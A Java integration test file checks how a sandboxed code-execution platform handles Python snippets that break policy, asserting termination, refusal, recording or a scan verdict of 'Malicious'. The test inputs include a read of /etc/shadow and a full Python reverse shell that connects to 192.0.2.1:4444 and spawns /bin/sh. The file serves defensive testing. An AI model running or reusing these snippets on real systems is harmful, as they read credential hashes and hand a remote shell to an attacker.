package dev.codesession.it;

import static org.assertj.core.api.Assertions.assertThat;

import dev.codesession.api.v1alpha1.Blame;
import dev.codesession.api.v1alpha1.CodeSession;
import dev.codesession.api.v1alpha1.CodeSessionStatus;
import dev.codesession.api.v1alpha1.OutcomeReason;
import dev.codesession.api.v1alpha1.ScanMode;
import dev.codesession.api.v1alpha1.ScanPolicy;
import dev.codesession.api.v1alpha1.ViolationAction;
import dev.codesession.api.v1alpha1.ViolationStatus;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Code that breaks a rule, from the system call to the status, the event and the end of the VM. */
final class ViolationsIT {
  private static final String READS_SHADOW =
      """
      print('before', flush=True)
      try:
          open('/etc/shadow')
      except OSError as refusal:
          print(type(refusal).__name__, flush=True)
      print('after', flush=True)
      """;

  @RegisterExtension static final LiveCluster cluster = new LiveCluster();

  @Test
  void aRestrictedFileEndsTheSessionAtOnce() {
    var session = cluster.create(Sessions.python("it-runc", READS_SHADOW));
    var status = cluster.destroyed(session);
    assertThat(status.outcome().reason())
        .as(status.outcome().message())
        .isEqualTo(OutcomeReason.PolicyViolation);
    assertThat(status.outcome().blame()).isEqualTo(Blame.Policy);
    assertThat(status.outcome().codeStarted()).isTrue();
    assertThat(status.stdout().head()).isEqualTo("before\n");
    assertThat(terminated(status).attempted()).contains("/etc/shadow");
    assertThat(terminated(status).technique()).startsWith("T1");
    assertThat(Instant.parse(terminated(status).time()))
        .isAfterOrEqualTo(Instant.parse(status.timeline().started()));
    LiveCluster.waitUntil(() -> reasons(session).contains("PolicyViolation"));
    assertThat(reasons(session)).containsOnlyOnce("PolicyViolation");
  }

  @Test
  void aClassThatOnlyRecordsLetsTheKernelAnswer() {
    cluster.createClass(
        TestClasses.watching("it-records", LiveCluster.image(), ViolationAction.Record, null));
    var status = cluster.run(Sessions.python("it-records", READS_SHADOW));
    assertThat(status.outcome().reason())
        .as(status.outcome().message())
        .isEqualTo(OutcomeReason.Completed);
    assertThat(status.stdout().head()).isEqualTo("before\nPermissionError\nafter\n");
    assertThat(status.violations())
        .anySatisfy(v -> assertThat(v.attempted()).contains("/etc/shadow"))
        .noneMatch(v -> v.action().equals("Terminated"));
  }

  /**
   * What gVisor has no notification for is refused by the filter; what ends a session ends it
   * there, too.
   */
  @Test
  void aVsockToTheHostEndsTheSessionWithoutNotification() {
    var status =
        cluster.run(
            Sessions.python(
                "it-gvisor",
                "import socket\nprint('before', flush=True)\nsocket.socket(socket.AF_VSOCK)\nprint('after')"));
    assertThat(status.outcome().reason())
        .as(status.outcome().message())
        .isEqualTo(OutcomeReason.PolicyViolation);
    assertThat(status.stdout().head()).isEqualTo("before\n");
    assertThat(status.violations()).isNotEmpty();
  }

  @Test
  void aRequestToTheNetIsRefusedAndRecordedNotPunished() {
    var status =
        cluster.run(
            Sessions.python(
                "it-runc",
                """
                import urllib.request
                try:
                    urllib.request.urlopen('http://192.0.2.1/', timeout=3)
                except OSError as refusal:
                    print('refused')
                """));
    assertThat(status.outcome().reason())
        .as(status.outcome().message())
        .isEqualTo(OutcomeReason.Completed);
    assertThat(status.stdout().head()).isEqualTo("refused\n");
    assertThat(status.violations()).isNotEmpty().allMatch(v -> v.action().equals("Refused"));
  }

  @Test
  void ordinaryCodeBreaksNoRule() {
    var status =
        cluster.run(
            Sessions.python(
                "it-runc",
                "import pandas, matplotlib, numpy, sqlite3, ssl, multiprocessing, subprocess\n"
                    + "subprocess.run(['sort'], input=b'b\\na\\n')\nprint(numpy.arange(3).sum())"));
    assertThat(status.outcome().reason())
        .as(status.outcome().message())
        .isEqualTo(OutcomeReason.Completed);
    assertThat(status.violations()).isEmpty();
    assertThat(status.scan().verdict()).isEqualTo("Clean");
  }

  @Test
  void maliciousContentIsNotStartedWhereTheClassBlocks() {
    cluster.createClass(
        TestClasses.watching(
            "it-blocks",
            LiveCluster.image(),
            ViolationAction.Terminate,
            new ScanPolicy(ScanMode.Block, 100)));
    var status =
        cluster.run(
            Sessions.python(
                "it-blocks",
                "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
                    + "s.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\n"
                    + "subprocess.call(['/bin/sh','-i'])"));
    assertThat(status.outcome().reason())
        .as(status.outcome().message())
        .isEqualTo(OutcomeReason.PolicyViolation);
    assertThat(status.outcome().codeStarted()).isFalse();
    assertThat(status.scan().verdict()).isEqualTo("Malicious");
    assertThat(status.scan().matches()).isNotEmpty();
  }

  private static ViolationStatus terminated(CodeSessionStatus status) {
    return status.violations().stream()
        .filter(v -> v.action().equals("Terminated"))
        .findFirst()
        .orElseThrow();
  }

  private static List<String> reasons(CodeSession session) {
    return cluster
        .client()
        .v1()
        .events()
        .inNamespace(cluster.namespace())
        .withField("involvedObject.uid", session.getMetadata().getUid())
        .list()
        .getItems()
        .stream()
        .map(e -> e.getReason())
        .toList();
  }
}
